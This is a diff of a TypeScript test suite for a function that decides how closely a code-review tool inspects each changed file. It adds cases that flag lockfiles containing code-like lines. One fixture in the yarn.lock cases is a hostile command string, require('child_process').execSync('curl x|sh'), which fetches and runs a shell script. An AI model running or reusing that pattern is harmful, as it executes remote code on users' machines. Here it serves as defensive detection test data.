@@ -26,6 +26,11 @@ function whole(text: string): ChangedFile["head"] {
   return [{ firstLine: 1, text }];
 }
 
+function addedHunk(text: string): ChangedFile["hunks"][number] {
+  const line = { kind: "added" as const, oldLine: null, newLine: 1, text };
+  return { index: 0, oldStart: 0, oldLines: 0, newStart: 1, newLines: 1, lines: [line] };
+}
+
 describe("what becomes of a file", () => {
   test.each([
     ["src/x.ts", "review"],
@@ -40,21 +45,37 @@ describe("what becomes of a file", () => {
     [".idea/workspace.xml", "generated"],
     ["api/user.pb.go", "generated"],
     ["Form.Designer.cs", "generated"],
-    ["package-lock.json", "check"],
-    ["deep/er/pnpm-lock.yaml", "check"],
-    ["go.sum", "check"],
     ["node_modules/.package/yarn.lock", "vendored"],
     ["bun.lock", "review"],
   ])("by its path %s: %s", (path, expected) => {
     expect(fateOf(makeFile(path))).toBe(expected);
   });
 
+  test.each([
+    ["package-lock.json", '    "node_modules/a": {', "check"],
+    ["package-lock.json", '      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",', "check"],
+    ["package-lock.json", 'require("child_process");', "review"],
+    ["deep/er/pnpm-lock.yaml", "  '@babel/core@7.0.0(supports-color@5.5.0)':", "check"],
+    ["yarn.lock", '  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#0123"', "check"],
+    ["yarn.lock", 'require("child_process").execSync("curl x|sh")', "review"],
+    ["go.sum", `example.com/a v1.0.0/go.mod h1:${"A".repeat(43)}=`, "check"],
+    ["go.sum", "package main", "review"],
+    ["Gemfile.lock", "    rack (>= 1.0, < 3)", "check"],
+  ])("named %s with the added line %s: %s", (path, text, expected) => {
+    expect(fateOf(makeFile(path, { hunks: [addedHunk(text)] }))).toBe(expected);
+  });
+
   test.each<[string, Partial<ChangedFile>, string]>([
     ["binary", { kind: "binary", hunks: [] }, "binary"],
     ["submodule", { kind: "submodule" }, "submodule"],
-    ["symbolic link", { kind: "symlink" }, "check"],
+    ["symbolic link", { kind: "symlink" }, "review"],
     ["mode change", { status: "mode-changed", hunks: [] }, "check"],
     ["rename without changes", { status: "renamed", hunks: [] }, "check"],
+    [
+      "move from data to code",
+      { status: "renamed", hunks: [], previousPath: RepoPath.parse("docs/x.ts.txt") },
+      "moved-into-place",
+    ],
     ["unreadable diff", { unreadable: "broken" }, "unreadable-diff"],
   ])("as a %s", (_, fields, expected) => {
     expect(fateOf(makeFile("src/x.ts", fields))).toBe(expected);
